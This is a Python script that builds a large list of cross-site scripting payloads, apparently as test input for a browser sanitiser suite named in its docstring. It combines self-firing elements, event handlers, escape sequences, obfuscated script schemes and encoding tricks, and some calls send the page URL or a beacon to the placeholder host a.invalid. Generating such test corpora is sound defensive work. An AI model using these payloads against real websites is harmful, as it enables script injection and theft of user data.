"""Text that would run a program in a page that lets it: elements and their
events, addresses, ways out of where text stands, written in many ways.
Run by itself it prints them, a line each, for tests/browser/xss.mjs.
"""
import sys
from urllib.parse import quote

# What is called: each can be seen from outside, as a dialog, a window, a request.
CALLS = ("alert(1)", "confirm`1`", "prompt(document.title)", "window.open('//a.invalid')",
         "fetch('//a.invalid/'+document.URL)",
         "new Image().src='//a.invalid'", "location='//a.invalid'", "top['al'+'ert'](1)", "self[atob('YWxlcnQ=')](1)",
         "setTimeout('alert(1)')", "[1].find(alert)", "(0,alert)(1)", "Function('alert(1)')()",
         "import('//a.invalid/x.js')",
         "navigator.sendBeacon('//a.invalid')", "document.write('<script>alert(1)<\\/script>')")

# Elements that cause an event by themselves, and what they need for it.
FIRES = (("img", "src=x", "onerror"), ("img", "src=data:,", "onerror"), ("image", "src=x", "onerror"),
         ("svg", "", "onload"),
         ("body", "", "onload"), ("body", "", "onpageshow"), ("body", "", "onresize"), ("iframe", "", "onload"),
         ("frameset", "", "onload"), ("object", "data=x", "onerror"), ("embed", "src=x", "onerror"),
         ("video", "src=x", "onerror"),
         ("audio", "src=x", "onerror"), ("video><source", "", "onerror"), ("video autoplay", "src=x", "onloadstart"),
         ("input autofocus", "", "onfocus"), ("select autofocus", "", "onfocus"),
         ("textarea autofocus", "", "onfocus"),
         ("button autofocus", "", "onfocus"), ("a autofocus", "href=#", "onfocus"),
         ("p tabindex=1 autofocus", "", "onfocusin"),
         ("details open", "", "ontoggle"), ("marquee", "", "onstart"), ("marquee loop=1", "", "onfinish"),
         ("script", "src=x", "onerror"),
         ("link", "rel=stylesheet href=x", "onerror"), ("link", "rel=stylesheet href=data:text/css,", "onload"),
         ("style", "", "onload"),
         ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("svg><set", "attributeName=x dur=1s", "onbegin"),
         ("svg><animate", "attributeName=x dur=1s repeatCount=1", "onend"), ("svg><image", "href=x", "onerror"),
         ("svg><use", "href=#x", "onload"), ("svg><script", "href=x", "onerror"),
         ("math><mtext><img", "src=x", "onerror"),
         ("p style='animation:a'", "", "onanimationstart"), ("p style='transition:1s'", "", "ontransitionend"),
         ("form><button", "type=submit", "onclick"), ("dialog open", "", "onclose"), ("meter", "", "onmouseover"),
         ("input type=image", "src=x", "onerror"), ("picture><img", "srcset=x", "onerror"),
         ("track", "src=x", "onerror"),
         ("slot", "", "onslotchange"), ("keygen autofocus", "", "onfocus"), ("isindex autofocus", "", "onfocus"),
         ("x contenteditable autofocus", "", "onfocus"), ("template><img", "src=x", "onerror"),
         ("noscript><img", "src=x", "onerror"),
         ("table background=x", "", "onload"), ("plaintext", "", "onmouseover"), ("xmp", "", "onclick"),
         ("portal", "src=x", "onload"))

# Events that somebody must cause; the player's own scripts may.
EVENTS = ("click", "dblclick", "mouseover", "mouseenter", "mousemove", "mousedown", "mouseup", "wheel", "scroll",
          "scrollend", "keydown", "keyup",
          "keypress", "input", "beforeinput", "change", "submit", "reset", "invalid", "select", "copy", "cut",
          "paste", "drag", "dragstart",
          "dragover", "drop", "blur", "focusout", "contextmenu", "pointerdown", "pointerover", "pointerrawupdate",
          "touchstart", "touchend",
          "auxclick", "gotpointercapture", "securitypolicyviolation", "selectstart", "selectionchange", "beforeprint",
          "afterprint",
          "hashchange", "popstate", "message", "storage", "unload", "beforeunload", "pagehide", "visibilitychange",
          "fullscreenchange",
          "animationend", "transitionrun", "beforetoggle", "cancel", "cuechange", "formdata", "search",
          "webkitanimationstart")

# Where a text may stand, and what would lead out of there.
WAYS_OUT = ('">', "'>", ">", '"', "'", "` ", "--><", "--!>", "]]>", "*/", "</script>", "</style>", "</title>",
            "</textarea>", "</noscript>",
            "</template>", "</select>", "</svg>", "</math>", "</code></pre>", "</a>", "\\\">", "\\\\\">", '"}]}',
            "'}]}", '"];', "';", "');",
            '");', "${", "`+", "{{", "]]", ")", "](", "](<", "]: ", "<!--", "<![CDATA[", "<!--<script>", "&quot;>",
            "&lt;", "%22%3E", "\\u0022>",
            "\\x22>", "\u2028", "= ", "| ", "```\n".strip(), "`", "> ", "- [x] ", "## Explanation ")

SCHEMES = ("javascript:", "JaVaScRiPt:", "javascript&colon;", "javascript&#58;", "java&Tab;script:",
           "java&NewLine;script:",
           "&#106;avascript:", "&#x6a;avascript:", "&#0000106avascript:", "java\\script:", "%6aavascript:",
           "javascript%3a", " javascript:",
           "\u00a0javascript:", "&#1;javascript:", "&#14;javascript:", "x:javascript:", "view-source:javascript:",
           "feed:javascript:",
           "vbscript:", "livescript:", "data:text/html,<script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
           "data:image/svg+xml,<svg onload='", "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>",
           "blob:", "filesystem:",
           "//a.invalid/", "\\\\a.invalid/", "/\\a.invalid/", "https:a.invalid/", "mhtml:", "jar:", "about:")


def entities(s, form="&#%d;"):
    return "".join(form % ord(c) for c in s)


# How the same call may be written inside an attribute, or the element itself.
WRITINGS = (
    lambda e, a, v, c: f"<{e} {a} {v}={c}>",
    lambda e, a, v, c: f'<{e} {a} {v}="{c}">'.replace("'", "&#39;"),
    lambda e, a, v, c: f"<{e.upper()} {a} {v.upper()}={entities(c)}>",
    lambda e, a, v, c: f"<{e} {a} {v}={entities(c, '&#x%X;')}//",
    lambda e, a, v, c: f"<{e}/{a}/{v}={entities(c, '&#%07d')}>".replace(" ", "/"),
    lambda e, a, v, c: f"<{''.join(x.upper() if i % 2 else x for i, x in enumerate(e))} {a} {v} = '{quote(c)}' >",
    lambda e, a, v, c: f"<{e} {a} x='>' {v}={c.replace('(', '&lpar;').replace(')', '&rpar;')} y",
    lambda e, a, v, c: f"<<{e} {a} {v}={c}//<",
    lambda e, a, v, c: f"<{e} {a} {v}={''.join(chr(92) + f'u{ord(x):04x}' if x.isalpha() else x for x in c)}>",
    lambda e, a, v, c: entities(f"<{e} {a} {v}={c}>"),
    lambda e, a, v, c: quote(f"<{e} {a} {v}={c}>"),
    lambda e, a, v, c: f"&lt;{e} {a} {v}={c}&gt;",
    lambda e, a, v, c: f"\\x3c{e} {a} {v}={c}\\x3e",
    lambda e, a, v, c: f"<\u200b{e} {a} {v}={c}>",
    lambda e, a, v, c: f"＜{e} {a} {v}={c}＞",
    lambda e, a, v, c: f"<scr<{e}>ipt><{e} {a} {v}={c}>",
)

SCRIPTS = ("<script>%s</script>", "<SCRIPT>%s</SCRIPT>", "<script >%s</script >", "<script/x>%s</script/x>",
           "<scr<script>ipt>%s</scr</script>ipt>",
           "<script>/*%s*/%s</script>", "<script><!--%s--></script>", "<script type=module>%s</script>",
           "<script\u00a0>%s</script>",
           "<svg><script>%s</script></svg>", "<svg><script>%s", "<math><script>%s</script></math>", "<script>%s//",
           "</script><script>%s</script>",
           "<noscript><p title='</noscript><script>%s</script>'>", "<style><style/><script>%s</script>",
           "<template><script>%s</script></template>",
           "<!--><script>%s</script>", "<![CDATA[><script>%s</script>]]>", "<?xml ><script>%s</script>?>",
           "<x><![CDATA[<script>%s</script>]]></x>")


def addresses(call):
    for scheme in SCHEMES:
        to = scheme + call
        yield f"<a href={to}>a</a>"
        yield f"[a]({to})"
        yield f"[a](<{to}>)"
        yield f"![a]({to})"
        yield f"<{to}>"
        yield f'<iframe src="{to}">'


REFUSED = ("<meta http-equiv=refresh content='0;url=%s'>", "<base href='//a.invalid/'>%s",
           "<form action='//a.invalid/'><input type=submit>%s",
           "<object data='%s'>", "<embed src='%s'>", "<iframe srcdoc='<script>%s</script>'>",
           "<style>@import '//a.invalid/%s'</style>",
           "<p style='background:url(//a.invalid/%s)'>", "<p style='x:expression(%s)'>",
           "<link rel=import href='//a.invalid/%s'>",
           "<link rel=prefetch href='//a.invalid/%s'>", "<link rel=dns-prefetch href='//a.invalid'>%s",
           "<img src='//a.invalid/%s'>",
           "<svg><foreignObject><iframe src='%s'></foreignObject></svg>",
           "<svg><a href='%s'><text y=9>a</text></a></svg>", "<x:script>%s</x:script>",
           "<applet code='%s'>", "<bgsound src='%s'>", "<layer src='%s'>", "<xml id=x><a>%s</a></xml>",
           "<frame src='%s'>", "<input pattern='%s'>",
           "<table background='%s'>", "<button formaction='%s'>a", "<isindex action='%s'>", "<math href='%s'>a",
           "<html manifest='%s'>",
           "<a ping='//a.invalid/' href='#'>%s", "<video poster='//a.invalid/%s'>", "<audio src='//a.invalid/%s'>",
           "<img srcset='//a.invalid/%s 1x'>",
           "<img usemap=#m><map name=m><area href='%s'></map>", "<script src='//a.invalid/%s'></script>",
           "<noscript>%s</noscript>")


def payloads():
    """All of them, each once, none with a line end or a control in it."""
    found = []
    for i, fire in enumerate(FIRES):
        found += [WRITINGS[j](*fire,
                              CALLS[(i + j) % len(CALLS)]) for j in range(len(WRITINGS)) if j < 3 or (i + j) % 3 == 0]
    for i, event in enumerate(EVENTS):
        element = ("p", "a href=#", "body", "input", "svg", "form", "x")[i % 7]
        found += [WRITINGS[(i + j * 5) % len(WRITINGS)](element, "", "on" + event,
                CALLS[(i * 3 + j) % len(CALLS)]) for j in range(3)]
    for i, way in enumerate(WAYS_OUT):
        call = CALLS[i % len(CALLS)]
        found += [way + SCRIPTS[i % len(SCRIPTS)].replace("%s", call), way + f"<img src=x onerror={call}>",
                  way + call + "//",
                  way + f" onmouseover={call} ", way + f" autofocus onfocus={call} x='", call + way,
                  way + way + f"<svg/onload={call}>"]
    for i, call in enumerate(CALLS):
        found += [s.replace("%s", call) for s in SCRIPTS[i % 3::3]] + [call, f"javascript:{call}", f"'-{call}-'",
                f'"+{call}+"', f"${{{call}}}"]
        found += [s.replace("%s", call) for s in REFUSED[i % 4::4]]
    for i in range(3):
        found += addresses(CALLS[i * 5])
    return [s for s in dict.fromkeys(found) if s.isprintable() or "\u2028" in s or "\u200b" in s or "\u00a0" in s]


if __name__ == "__main__":
    sys.stdout.reconfigure(encoding="utf-8")
    print("\n".join(payloads()))
